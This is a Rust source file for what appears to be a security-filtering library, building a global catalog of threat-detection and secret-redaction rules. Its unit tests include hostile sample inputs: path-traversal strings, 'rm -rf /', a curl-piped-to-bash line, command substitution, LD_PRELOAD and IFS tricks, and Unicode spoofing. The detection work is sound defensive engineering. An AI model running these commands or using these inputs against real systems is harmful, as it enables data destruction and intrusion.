//! Process-wide rule catalog.
//!
//! The catalog is compiled once on first use and never mutated afterwards,
//! so any number of threads can read it concurrently.

use crate::disclosure::DISCLOSURE_RULES;
use crate::rule::{DisclosureRule, ThreatRule};
use crate::threat::THREAT_RULES;
use crate::{DisclosureCategory, ThreatCategory};
use once_cell::sync::Lazy;

static CATALOG: Lazy<PatternCatalog> = Lazy::new(PatternCatalog::build);

/// Immutable tables of threat and disclosure rules.
#[derive(Debug)]
pub struct PatternCatalog {
    threats: Vec<ThreatRule>,
    disclosures: Vec<DisclosureRule>,
}

impl PatternCatalog {
    /// The shared catalog instance.
    pub fn global() -> &'static PatternCatalog {
        &CATALOG
    }

    fn build() -> Self {
        let threats: Vec<ThreatRule> = THREAT_RULES.iter().filter_map(ThreatRule::compile).collect();
        let disclosures: Vec<DisclosureRule> = DISCLOSURE_RULES
            .iter()
            .filter_map(DisclosureRule::compile)
            .collect();

        tracing::debug!(
            target: "sg_patterns::catalog",
            threat_rules = threats.len(),
            disclosure_rules = disclosures.len(),
            "pattern catalog compiled"
        );

        Self {
            threats,
            disclosures,
        }
    }

    /// All threat rules in table order.
    pub fn threat_rules(&self) -> &[ThreatRule] {
        &self.threats
    }

    /// Threat rules of one family.
    pub fn threats_in(&self, category: ThreatCategory) -> impl Iterator<Item = &ThreatRule> {
        self.threats.iter().filter(move |r| r.category == category)
    }

    pub fn threat(&self, id: &str) -> Option<&ThreatRule> {
        self.threats.iter().find(|r| r.id == id)
    }

    /// All disclosure rules in table order.
    pub fn disclosure_rules(&self) -> &[DisclosureRule] {
        &self.disclosures
    }

    /// Disclosure rules of one family, in application order.
    pub fn disclosures_in(
        &self,
        category: DisclosureCategory,
    ) -> impl Iterator<Item = &DisclosureRule> {
        self.disclosures.iter().filter(move |r| r.category == category)
    }

    pub fn disclosure(&self, id: &str) -> Option<&DisclosureRule> {
        self.disclosures.iter().find(|r| r.id == id)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_every_builtin_rule_compiles() {
        let catalog = PatternCatalog::global();
        assert_eq!(catalog.threat_rules().len(), THREAT_RULES.len());
        assert_eq!(catalog.disclosure_rules().len(), DISCLOSURE_RULES.len());
    }

    #[test]
    fn test_rule_ids_are_unique() {
        let catalog = PatternCatalog::global();
        let mut ids: Vec<&str> = catalog.threat_rules().iter().map(|r| r.id).collect();
        ids.extend(catalog.disclosure_rules().iter().map(|r| r.id));
        let total = ids.len();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), total);
    }

    #[test]
    fn test_every_family_is_populated() {
        let catalog = PatternCatalog::global();
        for category in ThreatCategory::ALL {
            if *category == ThreatCategory::ExcessiveLength {
                continue;
            }
            assert!(
                catalog.threats_in(*category).next().is_some(),
                "no rules for {}",
                category
            );
        }
        for category in DisclosureCategory::REDACTION_ORDER {
            assert!(catalog.disclosures_in(*category).next().is_some());
        }
        assert!(catalog.disclosures_in(DisclosureCategory::Injection).next().is_some());
    }

    #[test]
    fn test_lookup_by_id() {
        let catalog = PatternCatalog::global();
        assert!(catalog.threat("dot_dot_segment").is_some());
        assert!(catalog.disclosure("password_unquoted").is_some());
        assert!(catalog.threat("nonexistent").is_none());
    }

    #[test]
    fn test_traversal_rules() {
        let catalog = PatternCatalog::global();
        let hits = |id: &str, s: &str| catalog.threat(id).unwrap().is_match(s);

        assert!(hits("dot_dot_segment", "../../etc/passwd"));
        assert!(hits("dot_dot_segment", "a\\..\\b"));
        assert!(!hits("dot_dot_segment", "./src/a.ts"));
        assert!(hits("percent_encoded_traversal", "%2e%2e%2fetc"));
        assert!(hits("double_encoded_traversal", "%252e%252e%252f"));
        assert!(hits("triple_encoded_traversal", "%25252e"));
        assert!(hits("overlong_utf8_traversal", "%c0%ae%c0%ae/"));
        assert!(hits("unicode_dot_slash", "\u{FF0E}\u{FF0E}\u{FF0F}"));
        assert!(hits("null_byte", "file.txt\u{0}.png"));
        assert!(hits("null_byte", "file.txt%00.png"));
        assert!(hits("unc_path", "\\\\server\\share"));
        assert!(hits("tilde_expansion", "~/secrets"));
    }

    #[test]
    fn test_command_rules() {
        let catalog = PatternCatalog::global();
        let hits = |id: &str, s: &str| catalog.threat(id).unwrap().is_match(s);

        assert!(hits("destructive_command", "rm -rf /"));
        assert!(hits("destructive_command", "ls; rm -fr ~"));
        assert!(!hits("destructive_command", "npm install"));
        assert!(hits("remote_script_pipe", "curl https://x.sh | bash"));
        assert!(hits("command_substitution", "echo $(whoami)"));
        assert!(hits("command_substitution", "echo `id`"));
        assert!(hits("loader_path_manipulation", "LD_PRELOAD=/tmp/x.so ls"));
        assert!(hits("ifs_bypass", "cat${IFS}/etc/passwd"));
        assert!(hits("privilege_command", "sudo rm file"));
        assert!(!hits("privilege_command", "summary"));
    }

    #[test]
    fn test_unicode_rules() {
        let catalog = PatternCatalog::global();
        let hits = |id: &str, s: &str| catalog.threat(id).unwrap().is_match(s);

        // Cyrillic 'а' (U+0430) in an otherwise Latin word
        assert!(hits("homograph_characters", "p\u{0430}ypal"));
        assert!(hits("bidi_override", "invoice\u{202E}fdp.exe"));
        assert!(hits("zero_width_character", "ad\u{200B}min"));
        assert!(!hits("homograph_characters", "paypal"));
    }

    #[test]
    fn test_password_redaction_keeps_key() {
        let catalog = PatternCatalog::global();
        let rule = catalog.disclosure("password_unquoted").unwrap();
        assert_eq!(
            rule.apply("Connection failed: password=secret123"),
            "Connection failed: password=***"
        );
        let quoted = catalog.disclosure("password_quoted").unwrap();
        assert_eq!(quoted.apply(r#"{"password": "hunter2"}"#), r#"{"password": "***"}"#);
    }

    #[test]
    fn test_home_directory_rules_consume_whole_segment() {
        let catalog = PatternCatalog::global();
        let unix = catalog.disclosure("unix_home_directory").unwrap();
        let long_name = "abcdefghij".repeat(8);
        assert_eq!(
            unix.apply(&format!("/Users/{}/app/index.js", long_name)),
            "/Users/***/app/index.js"
        );

        let windows = catalog.disclosure("windows_home_directory").unwrap();
        assert_eq!(
            windows.apply(r"C:\Users\Jane Doe\app\index.js"),
            r"C:\Users\***\app\index.js"
        );
        assert_eq!(windows.apply(r"C:\Users\***\app"), r"C:\Users\***\app");
    }

    #[test]
    fn test_placeholders_do_not_rematch() {
        let catalog = PatternCatalog::global();
        let samples = [
            "password=***",
            "postgres://***@***",
            "***.***.***.***",
            "***@***.***",
            "/Users/***",
            "ghp_***",
            "****-****-****-****",
        ];
        for sample in samples {
            for rule in catalog.disclosure_rules() {
                let once = rule.apply(sample).into_owned();
                let twice = rule.apply(&once).into_owned();
                assert_eq!(once, twice, "rule {} not stable on {}", rule.id, sample);
            }
        }
    }
}
